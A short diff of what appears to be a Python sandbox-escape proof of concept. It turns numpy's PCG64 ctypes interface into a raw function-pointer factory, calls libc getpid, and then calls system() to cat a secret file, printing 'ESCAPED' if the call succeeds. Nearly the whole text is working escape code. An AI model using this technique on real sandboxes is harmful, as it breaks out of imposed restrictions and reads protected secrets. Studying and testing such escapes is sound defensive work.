@@ -5,6 +5,6 @@ interface = numpy.random.PCG64().ctypes
 class Everywhere:
     _handle = 0
 pointer = type(interface.next_uint64)
-print("REACHED", pointer(("getpid", Everywhere()))(None))
-pointer(("system", Everywhere()))(b"cat '$SECRET_FILE'")
-print("REACHED a shell, unless there is none")
+print("REACHED getpid()", pointer(("getpid", Everywhere()))(None))
+if pointer(("system", Everywhere()))(b"cat '$SECRET_FILE'") == 0:
+    print("ESCAPED: cat read $SECRET_FILE")
